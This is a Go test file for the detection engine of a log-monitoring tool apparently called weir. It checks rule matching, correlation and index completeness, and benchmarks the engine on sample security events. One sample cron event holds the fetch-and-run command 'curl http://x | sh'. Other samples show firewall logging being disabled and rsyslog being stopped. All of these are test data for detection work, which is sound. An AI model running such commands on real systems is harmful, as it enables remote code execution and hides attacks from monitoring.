package detect

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"weir/event"
	"weir/internal/match"
	"weir/internal/record"
	"weir/rules"
	"weir/rules/content"
)

const ruleFile = `id: failed
title: F
level: low
when:
  failed: process.name == "sshd" and event.outcome == "failure"
  login: process.name in ["sshd", "su"] and event.outcome == "success"
correlate: {sequence: [{when: failed}, {when: login}], by: [source.ip, user.name], within: 1m}
fold: {by: [source.ip]}
explain: "{{host.name}} {{labels.site}}"
---
id: any
title: A
level: low
when: icontains(message, "password")
---
id: codes
title: C
level: low
when: event.code in ["1", "2"]
fold: {by: [event.code, user.name]}
---
id: off
title: O
level: low
enabled: false
when: icontains(message, "password")
`

func engine(t testing.TB, file string) *Engine {
	t.Helper()
	set := rules.LoadFS(fstest.MapFS{"f.yaml": {Data: []byte(file)}}, "r", rules.Options{})
	if len(set.Faults) != 0 {
		t.Fatal(set.Faults)
	}
	en, faults := New(set, nil, nil)
	if len(faults) != 0 {
		t.Fatal(faults)
	}
	return en
}

func decode(t testing.TB, doc string) *event.Event {
	t.Helper()
	e := &event.Event{}
	if err := e.Decode([]byte(doc)); err != nil {
		t.Fatal(err)
	}
	return e
}

func TestSignals(t *testing.T) {
	t.Parallel()
	en := engine(t, ruleFile)
	src := record.Pos{Topic: "weir.raw.syslog", Partition: 1, Offset: 7, Sub: 2}
	tests := []struct{ name, doc, want string }{
		{"one condition", `{"weir":{"time":"2026-11-21T07:50:08Z"},"event":{"id":"x","outcome":"failure","dataset":"system.auth"},"process":{"name":"sshd"},"source":{"ip":"203.0.113.5"},"user":{"name":"root"},"host":{"name":"web-1"},"labels":{"site":"seoul"},"message":"m"}`,
			"failed/failed [203.0.113.5 root] x system.auth 07:50:08 map[event.outcome:failure host.name:web-1 labels.site:seoul message:m process.name:sshd source.ip:203.0.113.5 user.name:root]"},
		{"a group field is missing", `{"event":{"outcome":"failure"},"process":{"name":"sshd"},"source":{"ip":"203.0.113.5"}}`, ""},
		{"without correlation missing fields are empty", `{"@timestamp":"2026-11-21T07:50:09Z","event":{"id":"y"},"source":{"ip":"203.0.113.5"},"message":"a PassWord"}`,
			"any/event [ 203.0.113.5] y  07:50:09 map[message:a PassWord source.ip:203.0.113.5]"},
		{"two rules", `{"event":{"code":"2"},"message":"password","user":{"name":["kim","lee"]}}`,
			"any/event [ ]   00:00:00 map[message:password]; codes/event [2 kim]   00:00:00 map[event.code:2 message:password user.name:[\"kim\",\"lee\"]]"},
		{"several values, one signal", `{"event":{"code":["1","2","1"]}}`, "codes/event [1 ]   00:00:00 map[event.code:[\"1\",\"2\",\"1\"]]"},
		{"nothing", `{"message":"x"}`, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, s := range en.Signals(decode(t, tt.doc), src) {
				if s.Kind != "match" || s.Src != "weir.raw.syslog/1/7/2" || s.Hash == "" {
					t.Errorf("%+v", s)
				}
				got = append(got, fmt.Sprintf("%s/%s %v %s %s %s %v", s.Rule, s.When, s.Group, s.EventID, s.Dataset, s.Time.UTC().Format("15:04:05"), s.Values))
			}
			if strings.Join(got, "; ") != tt.want {
				t.Errorf("got  %s\nwant %s", strings.Join(got, "; "), tt.want)
			}
		})
	}
	var counts []string
	for _, c := range en.Counts() {
		counts = append(counts, fmt.Sprint(c.Rule, c.Matched, c.Lacking))
	}
	if got := fmt.Sprint(counts); got != "[failed2 1 any2 0 codes2 0]" {
		t.Error(got)
	}
	if en.Len() != 3 || en.Hash() == "" || en.Rules()[0].ID != "failed" {
		t.Error("the rules that run")
	}
}

// TestIndexMissesNothing compares the engine with every condition tried on every event, over events made of the values
// that the shipped rules mention.
func TestIndexMissesNothing(t *testing.T) {
	t.Parallel()
	set := rules.LoadFS(content.FS(), content.Name, rules.Options{})
	en, faults := New(set, nil, nil)
	if len(faults) != 0 {
		t.Fatal(faults)
	}
	hits := 0
	for _, e := range sampleEvents(t) {
		var got, want []string
		en.Hits(e, func(r *rules.Rule, when string) { got = append(got, r.ID+"/"+when) })
		for _, r := range set.Rules {
			if !r.Enabled {
				continue
			}
			for _, c := range r.When {
				cond, err := match.Compile(c.Expr)
				if err != nil {
					t.Fatal(err)
				}
				if cond.Match(e) {
					want = append(want, r.ID+"/"+c.Name)
				}
			}
		}
		slices.Sort(got)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("%s: got %v, want %v", e.AppendJSON(nil), got, want)
		}
		hits += len(got)
	}
	if hits < 10 {
		t.Errorf("only %d hits: the test says little", hits)
	}
	var e event.Event
	if all := en.class(&e).set; len(all.Always()) > all.Len()/2 {
		t.Errorf("%d of %d conditions are tried on every event", len(all.Always()), all.Len())
	}
}

// sampleEvents are events such as normalise makes, of every kind that the shipped rules look at and of others.
func sampleEvents(t testing.TB) []*event.Event {
	t.Helper()
	docs := []string{
		`{"event":{"dataset":"cisco_asa.log","module":"cisco_asa","code":"302013","action":"flow-creation","category":["network"],"type":["connection","start"],"outcome":"success"},"source":{"ip":"192.0.2.1","port":1},"destination":{"ip":"198.51.100.1","port":443},"observer":{"name":"fw-1"},"message":"%ASA-6-302013: Built outbound TCP connection 1 for outside:198.51.100.1/443 to inside:192.0.2.1/1"}`,
		`{"event":{"dataset":"cisco_asa.log","module":"cisco_asa","code":"106023","action":"firewall-rule","category":["network"],"type":["connection","denied"],"outcome":"success"},"source":{"ip":"192.0.2.1"},"observer":{"name":"fw-1"},"message":"%ASA-4-106023: Deny tcp"}`,
		`{"event":{"dataset":"cisco_asa.log","module":"cisco_asa","code":"111008","action":"command-executed"},"process":{"command_line":"no logging enable"},"user":{"name":"admin"},"observer":{"name":"fw-1"}}`,
		`{"event":{"dataset":"cisco_asa.log","module":"cisco_asa","code":"113015","outcome":"failure","category":["authentication","network"]},"source":{"ip":"192.0.2.1"}}`,
		`{"event":{"dataset":"system.auth","module":"system","action":"ssh_login","outcome":"failure","category":["authentication"]},"system":{"auth":{"ssh":{"event":"Failed","method":"password"}}},"process":{"name":"sshd","pid":4711},"source":{"ip":"203.0.113.5","port":40117},"user":{"name":"root"},"host":{"name":"web-1"},"message":"Failed password for root from 203.0.113.5 port 40117 ssh2"}`,
		`{"event":{"dataset":"system.auth","module":"system","action":"ssh_login","outcome":"success","category":["authentication"]},"system":{"auth":{"ssh":{"event":"Accepted"}}},"process":{"name":"sshd"},"source":{"ip":"203.0.113.5"},"user":{"name":"root"},"host":{"name":"web-1"}}`,
		`{"event":{"dataset":"system.auth","module":"system","action":"sudo","outcome":"failure"},"process":{"name":"sudo"},"user":{"name":"kim"}}`,
		`{"event":{"dataset":"system.syslog","module":"system","action":"cron-command"},"process":{"name":"CRON","command_line":"curl http://x | sh"},"user":{"name":"root"}}`,
		`{"event":{"dataset":"system.syslog","module":"system","action":"service-stopped"},"process":{"name":"systemd"},"service":{"name":"rsyslog.service"}}`,
		`{"event":{"dataset":"portal.log","module":"portal","category":["authentication","session"],"outcome":"success"},"user":{"name":"kim"}}`,
		`{"event":{"dataset":"system.syslog","module":"system"},"message":"anything"}`,
		`{}`,
	}
	out := make([]*event.Event, len(docs))
	for i, d := range docs {
		out[i] = decode(t, d)
	}
	return out
}

func TestMissingList(t *testing.T) {
	t.Parallel()
	set := rules.LoadFS(fstest.MapFS{"f.yaml": {Data: []byte("id: a\ntitle: A\nlevel: low\nwhen: in_list(user.name, \"vips\")\n")}}, "r", rules.Options{Lists: match.Lists{"vips": match.NewList("kim")}})
	if len(set.Rules) != 1 {
		t.Fatal(set.Faults)
	}
	if en, faults := New(set, nil, nil); en.Len() != 0 || len(faults) != 1 || faults[0].Code != "rule-expr" || faults[0].Where != "r/f.yaml:4:7" {
		t.Error(faults)
	}
	en, _ := New(set, match.Lists{"vips": match.NewList("kim")}, nil)
	if got := en.Signals(decode(t, `{"user":{"name":"kim"}}`), record.Pos{}); len(got) != 1 {
		t.Error(got)
	}
}

func TestHitsAllocateNothing(t *testing.T) {
	set := rules.LoadFS(content.FS(), content.Name, rules.Options{})
	en, _ := New(set, nil, nil)
	for _, e := range sampleEvents(t) {
		if n := testing.AllocsPerRun(50, func() { en.Hits(e, func(*rules.Rule, string) {}) }); n != 0 {
			t.Errorf("%s: %v allocations", e.AppendJSON(nil), n)
		}
	}
}

// BenchmarkShipped is what an event costs with the rules that weir ships: most events satisfy none.
func BenchmarkShipped(b *testing.B) {
	set := rules.LoadFS(content.FS(), content.Name, rules.Options{})
	en, _ := New(set, nil, nil)
	events := sampleEvents(b)
	for _, bench := range []struct {
		name string
		e    *event.Event
	}{{"asa-connection", events[0]}, {"asa-deny", events[1]}, {"sshd-failed", events[4]}, {"other", events[10]}} {
		b.Run(bench.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				en.Hits(bench.e, func(*rules.Rule, string) {})
			}
		})
	}
	b.Run("sshd-failed-signals", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			en.Signals(events[4], record.Pos{Topic: "weir.raw.syslog"})
		}
	})
	b.Run("unrouted", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			for i := range en.conds {
				en.conds[i].cond.Match(events[0])
			}
		}
	})
}
